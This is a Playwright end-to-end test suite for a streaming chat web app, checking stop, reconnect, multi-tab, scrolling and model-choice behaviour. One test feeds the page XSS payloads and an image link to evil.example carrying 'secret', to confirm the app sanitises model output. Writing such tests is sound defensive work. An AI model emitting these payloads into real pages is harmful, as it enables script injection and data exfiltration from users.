// What a reader does and what may happen to them, each in a real Chromium against the real binary.

import assert from "node:assert/strict";

import { startProxy } from "./proxy.mjs";
import { stage } from "./stage.mjs";

const test = stage();

/** Words that show a lost or doubled letter at once. */
const counted = (from, to) => Array.from({ length: to - from }, (_, n) => `w${from + n} `);
const joined = (to) => counted(0, to).join("").trim();

test("a_question_is_asked_and_its_answer_streams", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  assert.equal(await tab.page.title(), "Ask the test");
  await tab.ask("Why is the sky blue?");
  const call = await fake.call();
  assert.equal(call.question, "Why is the sky blue?");
  await tab.says(/^Waiting for the first word/);
  await tab.page.waitForURL(/\/c\/[0-9a-f-]{36}$/);
  call.think("Let me see.");
  await tab.says("Thinking");
  call.say("Because ");
  await tab.reads("Because");
  await tab.says("Answering");
  call.say("of **scattering**.");
  await tab.reads("Because of scattering.");
  call.finish();
  await tab.finished();
  assert.equal(await tab.answer.getByText("The model's thinking").count(), 1);

  await tab.ask("And red at dusk?");
  const next = await fake.call();
  assert.deepEqual(
    next.body.messages.filter(({ role }) => role !== "system").map(({ content }) => content),
    ["Why is the sky blue?", "Because of **scattering**.", "And red at dusk?"],
  );
  next.say("A longer way.");
  next.finish();
  await tab.finished();
  await reader.leave();
});

test("a_screen_reader_hears_the_end_of_an_answer_and_nothing_when_an_old_one_is_opened", async ({
  fake,
  askd,
  reader,
}) => {
  const tab = await reader.open(askd.url);
  const spoken = () => tab.page.locator("#app > p[role=status]").innerText();
  await tab.hears(fake, "First.", "one");
  assert.equal(await spoken(), "one. The answer is complete.");
  await tab.page.reload();
  await tab.finished();
  await tab.settled();
  assert.equal(await spoken(), "");
  await reader.leave();
});

test("a_suggestion_is_a_question", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.page.getByRole("button", { name: "What is a turn?" }).click();
  const call = await fake.call();
  assert.equal(call.question, "What is a turn?");
  call.say("One question, one answer.");
  call.finish();
  await tab.finished();
  await reader.leave();
});

for (const [how, stop] of [
  ["the_stop_button", (tab) => tab.page.getByRole("button", { name: "Stop" }).click()],
  ["escape", (tab) => tab.page.keyboard.press("Escape")],
]) {
  test(`${how}_stops_the_answer_and_the_endpoint`, async ({ fake, askd, reader }) => {
    const tab = await reader.open(askd.url);
    await tab.ask("Count.");
    const call = await fake.call();
    call.say("one ", "two ");
    await tab.reads("one two");
    await stop(tab);
    await call.closed;
    await tab.says("Stopped by you.");
    await tab.reads("one two");
    await reader.leave();
  });
}

test("stop_before_the_first_word_stops", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("Silence.");
  const call = await fake.call();
  await tab.says(/^Waiting for the first word/);
  await tab.page.keyboard.press("Escape");
  await call.closed;
  await tab.says("Stopped by you.");
  await reader.leave();
});

test("a_refresh_keeps_the_answer_and_the_rest_comes", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("Count.");
  const call = await fake.call();
  call.say(...counted(0, 40));
  await tab.reads(joined(40));
  await tab.page.reload();
  await tab.reads(joined(40));
  call.say(...counted(40, 80));
  await tab.reads(joined(80));
  call.finish();
  await tab.finished();
  await tab.reads(joined(80));
  await tab.page.reload();
  await tab.finished();
  await tab.reads(joined(80));
  await reader.leave();
});

test("a_killed_server_is_told_truthfully_and_the_next_question_goes_on_from_what_it_kept", async ({
  fake,
  askd,
  reader,
}) => {
  const tab = await reader.open(askd.url);
  await tab.ask("First.");
  const first = await fake.call();
  first.say("one");
  first.finish();
  await tab.finished();
  await tab.ask("Count.");
  (await fake.call()).say("two ");
  await tab.reads("two");
  await askd.kill();
  await tab.says(/^The connection was lost/);
  await tab.page.getByText(/Reconnecting/).waitFor();
  await askd.start();
  await tab.says(/^Interrupted: the server broke off/);
  await tab.ask("Again.");
  const call = await fake.call();
  assert.equal(call.question, "Again.");
  assert.ok(JSON.stringify(call.body).includes("First."), "the model sees what came before");
  call.say("three");
  call.finish();
  await tab.finished();
  await tab.reads("three");
  await reader.leave({ away: true });
});

test("a_question_sent_while_a_killed_server_is_away_waits_and_is_sent_once", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("Count.");
  (await fake.call()).say("one ");
  await tab.reads("one");
  await tab.composer.fill("And then?");
  await tab.composer.press("Enter");
  await tab.says(/^In line behind the answer above/);
  await tab.composer.fill("And what else?");
  await tab.composer.press("Enter");
  await tab.page.getByText("A question is waiting already.").waitFor();
  assert.equal(await tab.composer.inputValue(), "And what else?");
  await tab.composer.fill("");
  await askd.kill();
  await tab.says(/^Waiting for the connection|^Connecting/);
  await askd.start();
  const call = await fake.call();
  assert.equal(call.question, "And then?");
  call.say("two");
  call.finish();
  await tab.finished();
  assert.equal(await tab.page.getByText(/^Interrupted/).count(), 1);
  assert.equal(fake.waiting, 0);
  await reader.leave({ away: true });
});

test("what_could_not_be_kept_is_told_and_after_a_crash_shown_as_the_server_has_it", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.hears(fake, "First.", "one");
  await tab.ask("Count.");
  const call = await fake.call();
  call.say("two ");
  await tab.reads("two");
  const warning = tab.page.getByText("The server cannot keep conversations just now.");
  assert.equal(await warning.count(), 0);
  await askd.hideStorage();
  call.say("three");
  call.finish();
  await tab.finished();
  await warning.waitFor();
  await askd.kill();
  await askd.showStorage();
  await askd.start();
  await tab.says(/^Interrupted/);
  await warning.waitFor({ state: "detached" });
  const shown = await tab.answer.innerText();
  await tab.page.reload();
  await tab.says(/^Interrupted/);
  assert.equal(await tab.answer.innerText(), shown);
  await reader.leave({ away: true });
});

test("a_lost_connection_comes_back_without_a_lost_or_doubled_letter", async ({ fake, askd, reader }) => {
  const proxy = await startProxy(askd.port);
  const tab = await reader.open(proxy.url);
  await tab.ask("Count.");
  const call = await fake.call();
  let told = 0;
  for (let drop = 0; drop < 4; drop++) {
    call.say(...counted(told, told + 25));
    told += 25;
    if (drop % 2 === 0) await tab.reads(joined(told));
    proxy.down();
    await tab.says(/^The connection was lost/);
    call.say(...counted(told, told + 25));
    told += 25;
    proxy.up();
    await tab.says("Answering");
  }
  await tab.reads(joined(told));
  call.finish();
  await tab.finished();
  await tab.reads(joined(told));
  proxy.close();
  await reader.leave({ away: true });
});

test("two_tabs_follow_one_conversation", async ({ fake, askd, reader }) => {
  const one = await reader.open(askd.url);
  await one.ask("Count.");
  const call = await fake.call();
  call.say("one ");
  await one.reads("one");
  await one.page.waitForURL(/\/c\//);
  const two = await reader.open(one.page.url());
  await two.reads("one");
  call.say("two ");
  await one.reads("one two");
  await two.reads("one two");
  await one.page.close();
  call.say("three");
  await two.reads("one two three");
  call.finish();
  await two.finished();

  const three = await reader.open(two.page.url());
  await three.finished();
  await three.ask("And on.");
  const next = await fake.call();
  next.say("four");
  await two.reads("four");
  next.finish();
  await two.finished();
  await three.finished();
  await reader.leave();
});

test("two_tabs_that_ask_while_an_answer_runs_each_stay_with_their_own_question", async ({ fake, askd, reader }) => {
  const one = await reader.open(askd.url);
  await one.ask("Count.");
  const call = await fake.call();
  call.say("one");
  await one.reads("one");
  await one.page.waitForURL(/\/c\//);
  const two = await reader.open(one.page.url());
  await two.reads("one");
  await one.ask("Of the first tab?");
  await two.ask("Of the second tab?");
  for (const tab of [one, two]) await tab.says("In line behind the answer above");
  call.finish();
  const calls = [await fake.call(), await fake.call()];
  const asked = (question) => calls.find((call) => call.question === question);
  const question = (tab) => tab.page.getByRole("article").last();
  const versions = (tab) => tab.page.getByRole("group", { name: "Versions of this question" });
  for (const tab of [one, two]) await versions(tab).waitFor();
  await one.says("Waiting for the first word");
  await two.says("Waiting for the first word");
  assert.match(await question(one).innerText(), /Of the first tab\?/);
  assert.match(await question(two).innerText(), /Of the second tab\?/);

  asked("Of the second tab?").say("two");
  await two.reads("two");
  asked("Of the second tab?").finish();
  await two.page.getByText("An answer is running in another version.").waitFor();
  await one.says("Waiting for the first word");
  asked("Of the first tab?").say("first");
  await one.reads("first");
  // The other one's is a version beside it, whole.
  await versions(one).locator("button:enabled").click();
  await one.reads("two");
  await one.status.waitFor({ state: "detached" });
  asked("Of the first tab?").finish();
  await reader.leave();
});

stage({ concurrency: 1 })("a_full_endpoint_shows_the_place_in_line", async ({ fake, askd, reader }) => {
  const one = await reader.open(askd.url);
  await one.ask("First.");
  const first = await fake.call();
  const two = await reader.open(askd.url);
  await two.ask("Second.");
  await two.says("Waiting in line: place 1");
  const three = await reader.open(askd.url);
  await three.ask("Third.");
  await three.says("Waiting in line: place 2");
  first.say("done");
  first.finish();
  await one.finished();
  const second = await fake.call();
  await three.says("Waiting in line: place 1");
  second.say("done too");
  second.finish();
  await two.finished();
  await reader.leave();
});

test("a_failure_is_told_in_words_and_retry_asks_again", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("Try.");
  (await fake.call()).refuse(500, "out of memory");
  await tab.says(/\w+ .*\w/);
  await tab.page.getByRole("button", { name: "Retry" }).click();
  const again = await fake.call();
  assert.equal(again.question, "Try.");
  again.say("half an ");
  await tab.reads("half an");
  again.cut();
  await tab.page.getByRole("button", { name: "Retry" }).waitFor();
  await tab.reads("half an");
  await tab.page.getByRole("button", { name: "Retry" }).click();
  const last = await fake.call();
  last.say("whole");
  last.finish();
  await tab.finished();
  await tab.reads("whole");
  assert.equal(await tab.page.locator(".answer").count(), 1);
  await reader.leave();
});

test("an_answer_cut_at_the_length_limit_says_so", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("Long.");
  const call = await fake.call();
  call.say("as far as");
  call.finish("length");
  await tab.says(/length limit/);
  await reader.leave();
});

test("a_new_conversation_leaves_the_running_one_to_its_end", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("First.");
  const first = await fake.call();
  first.say("one ");
  await tab.reads("one");
  await tab.page.waitForURL(/\/c\//);
  const address = tab.page.url();
  await tab.page.getByRole("button", { name: "New conversation" }).click();
  await tab.page.getByRole("heading", { name: "Ask the test" }).waitFor();
  await tab.page.waitForURL((url) => url.pathname === "/");
  await tab.ask("Second.");
  const second = await fake.call();
  assert.equal(second.body.messages.filter(({ role }) => role === "user").length, 1);
  second.say("other");
  second.finish();
  await tab.finished();
  first.say("two");
  first.finish();
  await tab.page.goto(address);
  await tab.reads("one two");
  await tab.finished();
  await reader.leave();
});

test("a_browser_that_keeps_nothing_still_works_and_says_so", async ({ fake, askd, reader }) => {
  await reader.context.addInitScript(() =>
    Object.defineProperty(window, "localStorage", {
      get() {
        throw new DOMException("refused", "SecurityError");
      },
    }),
  );
  const tab = await reader.open(askd.url);
  await tab.page.getByText("a refresh will lose").waitFor();
  await tab.ask("Still?");
  const call = await fake.call();
  call.say("Yes.");
  call.finish();
  await tab.finished();
  await reader.leave();
});

const paragraphs = (word, to) => Array.from({ length: to }, (_, n) => `${word} ${n}.\n\n`);

/** An answer that goes on, already longer than the view; its question stands at the top. */
async function longAnswer(tab, fake) {
  await tab.ask("Long.");
  const call = await fake.call();
  call.say(...paragraphs("Paragraph", 60));
  await tab.text.getByText("Paragraph 59.").waitFor();
  await tab.jump.waitFor();
  return call;
}

test("the_view_follows_the_answer_until_its_question_is_at_the_top", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.countJumps();
  for (const question of ["First.", "Second."]) {
    await tab.ask(question);
    const call = await fake.call();
    call.say(...paragraphs("Short", 3));
    await tab.text.getByText("Short 2.").waitFor();
    await tab.restsAtTheEnd();
    await tab.jump.waitFor({ state: "detached" });
    if (question === "First.") assert.equal(await tab.jumps(), 0);
    call.say(...paragraphs("Paragraph", 60));
    await tab.text.getByText("Paragraph 59.").waitFor();
    await tab.jump.waitFor();
    const before = await tab.top();
    const { y } = await tab.page.getByRole("heading", { name: question }).boundingBox();
    assert.ok(y > 56 && y < 90, `the question stands at ${y} px`);
    call.say(...paragraphs("Further", 20));
    await tab.text.getByText("Further 19.").waitFor();
    assert.equal(await tab.top(), before);
    call.finish();
    await tab.finished();
  }
  await reader.leave();
});

test("a_reader_at_the_end_is_kept_there_until_they_scroll_up", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  const call = await longAnswer(tab, fake);
  await tab.jump.click();
  await tab.jump.waitFor({ state: "detached" });
  call.say(...paragraphs("Followed", 20));
  await tab.text.getByText("Followed 19.").waitFor();
  await tab.restsAtTheEnd();
  await tab.wheel(-600);
  await tab.jump.waitFor();
  await tab.wheel(600);
  await tab.jump.waitFor({ state: "detached" });
  // However little it is: with an answer that comes fast, nobody gets far in one go.
  await tab.wheel(-30);
  const before = await tab.top();
  call.say(...paragraphs("Further", 20));
  await tab.text.getByText("Further 19.").waitFor();
  await tab.jump.waitFor();
  assert.equal(await tab.top(), before);
  await tab.wheel(100_000);
  await tab.jump.waitFor({ state: "detached" });
  call.say(...paragraphs("Last", 20));
  await tab.text.getByText("Last 19.").waitFor();
  await tab.restsAtTheEnd();
  await tab.jump.waitFor({ state: "detached" });
  call.finish();
  await tab.finished();
  await reader.leave();
});

test("a_reader_who_reads_on_while_the_answer_grows_is_not_taken_back", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  const call = await longAnswer(tab, fake);
  await tab.wheel(300);
  const before = await tab.top();
  call.say(...paragraphs("Further", 20));
  await tab.text.getByText("Further 19.").waitFor();
  assert.equal(await tab.top(), before);
  call.finish();
  await tab.finished();
  await reader.leave();
});

test("a_scroll_without_wheel_or_key_is_the_readers_also_when_the_answer_grows_at_once", async ({
  fake,
  askd,
  reader,
}) => {
  const tab = await reader.open(askd.url);
  const call = await longAnswer(tab, fake);
  await tab.jump.click();
  await tab.restsAtTheEnd();
  // As find in page and screen readers do it; the answer is longer before the page hears of the scrolling.
  const before = await tab.text.evaluate((text) => {
    window.scrollBy(0, -500);
    text.style.paddingBottom = "300px";
    return window.scrollY;
  });
  call.say(...paragraphs("Further", 20));
  await tab.text.getByText("Further 19.").waitFor();
  await tab.jump.waitFor();
  assert.equal(await tab.top(), before);
  await reader.leave();
});

test("what_a_reader_unfolds_leaves_them_where_they_are", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("Think.");
  const call = await fake.call();
  for (const thought of paragraphs("Thought", 60)) call.think(thought);
  call.say(...paragraphs("Paragraph", 12));
  call.finish();
  await tab.finished();
  await tab.wheel(100_000);
  await tab.settled();
  const thinking = tab.page.getByText("The model's thinking");
  const before = (await thinking.boundingBox()).y;
  await thinking.click();
  await tab.page.getByText("Thought 59.").waitFor();
  await tab.settled();
  assert.ok(Math.abs((await thinking.boundingBox()).y - before) < 1);
  await reader.leave();
});

test("a_page_that_is_shorter_for_a_moment_is_still_followed", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  const call = await longAnswer(tab, fake);
  await tab.jump.click();
  await tab.restsAtTheEnd();
  // The browser moves the view up with the end, and the page hears of it when the end is further down again.
  await tab.text.evaluate(async (text) => {
    // Not every browser would put the view back by itself.
    document.body.style.overflowAnchor = "none";
    text.style.marginBottom = "-300px";
    void document.documentElement.scrollHeight;
    await null;
    text.style.marginBottom = "";
  });
  await tab.settled();
  call.say(...paragraphs("Further", 20));
  await tab.text.getByText("Further 19.").waitFor();
  await tab.restsAtTheEnd();
  await tab.jump.waitFor({ state: "detached" });
  await reader.leave();
});

test("the_rest_of_a_long_answer_is_followed_from_its_first_word", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await longAnswer(tab, fake);
  await tab.page.getByRole("button", { name: "Stop" }).click();
  await tab.says("Stopped by you.");
  await tab.jump.click();
  await tab.restsAtTheEnd();
  await tab.page.getByRole("button", { name: "Continue" }).click();
  const call = await fake.call();
  await tab.says(/^Waiting for the first word/);
  await tab.restsAtTheEnd();
  for (const name of ["Further", "Last"]) {
    call.say(...paragraphs(name, 3));
    await tab.text.getByText(`${name} 2.`).waitFor();
    await tab.settled();
    await tab.restsAtTheEnd();
  }
  await tab.jump.waitFor({ state: "detached" });
  call.finish();
  await tab.finished();
  await tab.restsAtTheEnd();
  await reader.leave();
});

test("a_long_next_question_does_not_cover_the_end_of_the_answer", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  const call = await longAnswer(tab, fake);
  await tab.jump.click();
  await tab.restsAtTheEnd();
  const low = (await tab.composer.boundingBox()).height;
  await tab.composer.fill("A line.\n".repeat(6));
  await tab.composer.press("x");
  await tab.restsAtTheEnd();
  assert.ok((await tab.composer.boundingBox()).height > 4 * low, "the composer is as high as its text");
  call.say(...paragraphs("Further", 20));
  await tab.text.getByText("Further 19.").waitFor();
  await tab.restsAtTheEnd();
  await tab.composer.fill("");
  await tab.restsAtTheEnd();
  assert.equal((await tab.composer.boundingBox()).height, low);
  await reader.leave();
});

test("the_answer_to_a_question_longer_than_the_view_is_seen", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  await tab.ask("A line.\n".repeat(80));
  const call = await fake.call();
  call.say(...paragraphs("Paragraph", 60));
  await tab.text.getByText("Paragraph 59.").waitFor();
  await tab.jump.waitFor();
  await tab.settled();
  assert.ok((await tab.text.boundingBox()).y < 600);
  call.finish();
  await tab.finished();
  await reader.leave();
});

test("a_babbling_model_leaves_the_page_usable_also_after_a_refresh", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  for (const mark of [">", "- ", "[", "`a"]) {
    await tab.ask(`Babble ${mark}.`);
    const call = await fake.call();
    for (let n = 0; n < 30; n++) call.say(mark.repeat(100));
    await tab.says("Answering");
    call.finish();
    await tab.finished();
    await tab.page.reload();
    await tab.finished();
  }
  const sideways = () =>
    tab.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok((await sideways()) <= 0);
  await tab.page.setViewportSize({ width: 320, height: 700 });
  assert.ok((await sideways()) <= 0);
  await tab.ask("And now?");
  const call = await fake.call();
  call.say("*Well.*");
  call.finish();
  await tab.finished();
  await tab.reads("Well.");
  await reader.leave();
});

test("stop_while_the_connection_is_lost_before_accepted_reaches_the_endpoint", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  // What the server says about a turn is held back: the question has arrived, and the page cannot know.
  let deaf = true;
  let cut = () => {};
  await tab.page.routeWebSocket(/\/ws$/, (near) => {
    const far = near.connectToServer();
    far.onMessage((text) => !(deaf && !String(text).includes('"status"')) && near.send(text));
    cut = async () => {
      deaf = false;
      await far.close({ code: 3000 });
      await near.close({ code: 3000 });
    };
  });
  await tab.page.reload();
  await tab.ask("Count.");
  const call = await fake.call();
  call.say("one ");
  await tab.says("Sending");
  await cut();
  await tab.page.keyboard.press("Escape");
  await call.closed;
  await tab.says("Stopped by you.");
  await reader.leave();
});

test("a_restarting_server_finishes_its_answer_and_the_next_question_waits_for_its_successor", async ({
  fake,
  askd,
  reader,
}) => {
  const tab = await reader.open(askd.url);
  await tab.ask("Count.");
  const call = await fake.call();
  call.say("one ");
  await tab.reads("one");
  const stopped = askd.stop();
  await tab.page.getByText("The server is about to restart").waitFor();
  call.say("two");
  call.finish();
  await stopped;
  await tab.finished();
  await tab.reads("one two");
  await tab.ask("And on.");
  await tab.says(/^Waiting for the connection|^Connecting/);
  await askd.start();
  const next = await fake.call();
  assert.equal(next.question, "And on.");
  next.say("three");
  next.finish();
  await tab.finished();
  await reader.leave({ away: true });
});

stage({ endpoint: null })(
  "without_an_endpoint_the_answer_names_its_entry_and_how_well_it_matches",
  async ({ askd, reader }) => {
    const tab = await reader.open(askd.url);
    await tab.ask("What is impermanent loss?");
    await tab.finished();
    const source = tab.page.getByRole("group", { name: "Sources" }).getByRole("listitem").first();
    assert.match(await source.innerText(), /impermanent loss[^]*match, \d+ %/i);
    await reader.leave();
  },
);

test("the_keyboard_sends_breaks_and_composes", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  assert.ok(await tab.composer.evaluate((area) => area === document.activeElement));
  await tab.page.keyboard.type("first line");
  await tab.page.keyboard.press("Shift+Enter");
  await tab.page.keyboard.type("second");
  await tab.composer.evaluate((area) =>
    area.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true })),
  );
  assert.equal(await tab.composer.inputValue(), "first line\nsecond");
  await tab.page.keyboard.press("Enter");
  assert.equal((await fake.call()).question, "first line\nsecond");
  assert.equal(await tab.composer.inputValue(), "");
  await reader.leave();
});

stage({ maxQuestion: "1 KiB" })(
  "a_question_near_the_limit_shows_it_and_one_beyond_is_not_sent",
  async ({ askd, reader }) => {
    const tab = await reader.open(askd.url);
    await tab.composer.fill("x".repeat(500));
    assert.equal(await tab.page.getByText("of 1,024 bytes").count(), 0);
    // Two bytes each: the limit counts bytes, not letters.
    await tab.composer.fill("é".repeat(512));
    await tab.page.getByText("1,024 of 1,024 bytes").waitFor();
    assert.ok(await tab.page.getByRole("button", { name: "Send" }).isEnabled());
    await tab.composer.fill("é".repeat(513));
    await tab.page.getByText("1,026 of 1,024 bytes").waitFor();
    assert.ok(await tab.page.getByRole("button", { name: "Send" }).isDisabled());
    await reader.leave();
  },
);

stage({ models: ["small", "large"] })(
  "a_chosen_model_is_a_new_conversations_also_after_a_refresh",
  async ({ fake, askd, reader }) => {
    const tab = await reader.open(askd.url);
    const model = tab.page.getByRole("combobox", { name: "Model" });
    await model.selectOption("large");
    await tab.page.reload();
    await model.waitFor();
    assert.equal(await model.inputValue(), "large");
    assert.equal((await tab.hears(fake, "First.", "one")).body.model, "large");
    await tab.page.getByRole("button", { name: "New conversation" }).click();
    await tab.page.getByRole("heading", { name: "Ask the test" }).waitFor();
    assert.equal((await tab.hears(fake, "Second.", "two")).body.model, "large");
    await reader.leave();
  },
);

stage({ models: ["small", "large"] })(
  "a_chosen_model_is_asked_also_after_a_refresh",
  async ({ fake, askd, reader }) => {
    const tab = await reader.open(askd.url);
    await tab.page.getByRole("combobox", { name: "Model" }).selectOption("large");
    for (const question of ["First.", "Second."]) {
      await tab.ask(question);
      const call = await fake.call();
      assert.equal(call.body.model, "large");
      call.say("done");
      call.finish();
      await tab.finished();
      await tab.page.reload();
      await tab.finished();
    }
    await reader.leave();
  },
);

const LONG_NAME = `a-model-${"with-a-very-long-name-".repeat(4)}70b`;

stage({ models: ["small", LONG_NAME] })("the_choice_of_a_model_is_as_wide_as_the_one_that_is_chosen", async (scene) => {
  const { askd, reader } = scene;
  const tab = await reader.open(askd.url);
  const select = tab.page.getByRole("combobox", { name: "Model" });
  const width = async () => (await select.boundingBox()).width;
  assert.ok((await width()) < 110, `${await width()}`);
  await select.selectOption(LONG_NAME);
  const { width: box } = await tab.page.locator(".composer .box").boundingBox();
  assert.ok((await width()) > 200 && (await width()) < box / 2, `${await width()} of ${box}`);
  await reader.leave();
});

test("an_answer_and_its_code_can_be_copied", async ({ fake, askd, reader }) => {
  await reader.context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const tab = await reader.open(askd.url);
  const clipboard = () => tab.page.evaluate(() => navigator.clipboard.readText());
  await tab.ask("Code.");
  const call = await fake.call();
  const answer = "Here:\n\n```sh\nls -l\n```\n\nThat is *all*.";
  call.say(answer);
  call.finish();
  await tab.finished();
  // "Copied" stands for a moment; here it stays until it has been seen.
  await tab.page.evaluate(() => (window.setTimeout = () => 0));
  await tab.answer.getByRole("button", { name: "Copy", exact: true }).click();
  await tab.answer.getByRole("button", { name: "Copied" }).waitFor();
  assert.equal(await clipboard(), "ls -l\n");
  await tab.answer.getByRole("button", { name: "Copy the answer" }).click();
  await tab.answer.locator(".actions").getByRole("button", { name: "Copied" }).waitFor();
  assert.equal(await clipboard(), answer);
  await reader.leave();
});

test("what_a_model_writes_cannot_act_in_the_page", async ({ fake, askd, reader }) => {
  const tab = await reader.open(askd.url);
  let fetched = 0;
  await tab.page.route(/evil\.example/, (route) => {
    fetched += 1;
    return route.abort();
  });
  await tab.ask("Attack.");
  const call = await fake.call();
  call.say("<img src=x onerror=alert(1)> ![q](https://evil.example/?q=secret) <script>alert(2)</script>\n\n");
  call.say('<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input></form>\n\n');
  call.say("[a](javascript:alert(3)) [b](https://evil.example/) <b style=position:fixed onclick=alert(4)>end</b>");
  call.finish();
  await tab.finished();
  assert.equal(fetched, 0);
  assert.equal(
    await tab.text.locator("img, script, iframe, form, input, [style], [onclick], [href^=javascript]").count(),
    0,
  );
  assert.equal(await tab.text.getByRole("link", { name: "b" }).getAttribute("rel"), "noopener noreferrer");
  await reader.leave();
});

stage({ server: "[limits.user]\nsessions = 1\n" })(
  "a_tab_too_many_says_whose_limit_it_has_met_and_comes_in_once_the_other_is_closed",
  async ({ askd, reader }) => {
    const first = await reader.open(askd.url);
    await first.stands();
    await first.page.waitForFunction(() => !document.body.innerText.includes("Connecting"));
    const second = await reader.open(askd.url);
    await second.page
      .getByText(/^You have as many sessions open as you may, until you close a tab\. Reconnecting in/)
      .waitFor();
    await first.page.close();
    await second.page.getByRole("button", { name: "Try now" }).click();
    await second.page.getByText(/^You have as many sessions/).waitFor({ state: "detached" });
    await reader.leave({ away: true });
  },
);
